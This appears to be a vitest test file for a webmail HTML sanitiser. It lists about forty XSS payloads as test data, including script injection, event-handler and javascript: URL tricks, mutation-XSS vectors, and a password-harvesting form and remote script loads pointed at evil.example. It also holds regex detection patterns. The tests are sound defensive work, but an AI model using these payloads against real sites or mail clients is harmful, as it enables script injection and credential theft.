import { describe, expect, it } from 'vitest';
import { sanitizeMessageHtml } from './html-sanitizer.js';

const clean = (html: string, allowRemoteImages = false) =>
  sanitizeMessageHtml(html, {
    allowRemoteImages,
    resolveContentId: (id) => (id === 'logo@x' ? '/api/webmail/messages/7/attachments/2' : null),
  }).html;

/** Nothing executable or navigating may survive, whatever the spelling. */
function expectInert(output: string): void {
  const lower = output.toLowerCase();
  expect(lower).not.toMatch(/<script|<iframe|<object|<embed|<svg|<math|<form|<input|<button|<base|<meta|<link|<style|<frame/);
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/javascript:|vbscript:|data:text\/html|expression\s*\(|-moz-binding|behavior\s*:/);
  expect(lower).not.toMatch(/url\s*\(/);
  expect(lower).not.toMatch(/srcdoc|formaction|xlink:href/);
}

const VECTORS: [string, string][] = [
  ['script element', '<p>hi</p><script>alert(1)</script>'],
  ['script with odd case and attributes', '<ScRiPt src="//evil.example/x.js"></sCrIpT>'],
  ['unclosed script', '<script>alert(1)'],
  ['event handler on img', '<img src="x" onerror="alert(1)">'],
  ['event handler on body', '<body onload="alert(1)"><p>x</p></body>'],
  ['event handler with newline', '<div\nonmouseover="alert(1)">x</div>'],
  ['event handler after slash', '<img/onerror=alert(1) src=x>'],
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['javascript href with entities', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript href with leading space and case', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['javascript href encoded colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['javascript img src', '<img src="javascript:alert(1)">'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
  ['svg animate href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['css expression', '<div style="width: expression(alert(1))">x</div>'],
  ['css url javascript', '<div style="background-image: url(javascript:alert(1))">x</div>'],
  ['css moz binding', '<div style="-moz-binding: url(http://evil.example/x.xml#x)">x</div>'],
  ['css behavior', '<div style="behavior: url(x.htc)">x</div>'],
  ['css escaped expression', '<div style="width: ex\\70ression(alert(1))">x</div>'],
  ['style element', '<style>body{background:url(javascript:alert(1))}</style><p>x</p>'],
  ['style import', '<style>@import "http://evil.example/x.css";</style>'],
  ['base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  [
    'form',
    '<form action="https://evil.example/"><input name="p" type="password"><button formaction="javascript:alert(1)">go</button></form>',
  ],
  ['textarea breakout', '<textarea></textarea><script>alert(1)</script></textarea>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['html entity event', '<img src=x &#111;nerror=alert(1)>'],
  ['protocol-relative script image', '<img src="//evil.example/track.gif">'],
];

describe('HTML sanitiser against XSS vectors', () => {
  for (const [name, vector] of VECTORS) {
    it(`neutralises ${name}`, () => expectInert(clean(vector)));
  }

  it('keeps ordinary formatting, tables and safe inline styles', () => {
    const output = clean(
      '<p style="color: rgb(10, 20, 30); font-weight: bold">Hello <b>there</b></p><table border="1"><tr><td colspan="2">cell</td></tr></table>',
    );
    expect(output).toContain('<b>there</b>');
    expect(output).toContain('color:rgb(10, 20, 30)');
    expect(output).toContain('font-weight:bold');
    expect(output).toContain('<td colspan="2">cell</td>');
  });

  it('opens links in a new context without referrer and keeps mailto', () => {
    const output = clean('<a href="https://example.org/x">x</a><a href="mailto:a@example.org">m</a>');
    expect(output).toContain('href="https://example.org/x"');
    expect(output).toContain('rel="noopener noreferrer nofollow"');
    expect(output).toContain('target="_blank"');
    expect(output).toContain('href="mailto:a@example.org"');
  });

  it('replaces remote images unless the caller allows them', () => {
    const blocked = sanitizeMessageHtml('<img src="https://tracker.example/p.gif" alt="p">', { allowRemoteImages: false });
    expect(blocked.remoteImagesBlocked).toBe(true);
    expect(blocked.html).not.toMatch(/\ssrc=/);
    expect(blocked.html).toContain('data-remote-src="https://tracker.example/p.gif"');
    const allowed = sanitizeMessageHtml('<img src="https://tracker.example/p.gif">', { allowRemoteImages: true });
    expect(allowed.remoteImagesBlocked).toBe(false);
    expect(allowed.html).toContain('src="https://tracker.example/p.gif"');
  });

  it('points cid: images at the attachment download and keeps raster data: images', () => {
    expect(clean('<img src="cid:logo@x">')).toContain('src="/api/webmail/messages/7/attachments/2"');
    expect(clean('<img src="cid:unknown@x">')).not.toContain('src=');
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });
});
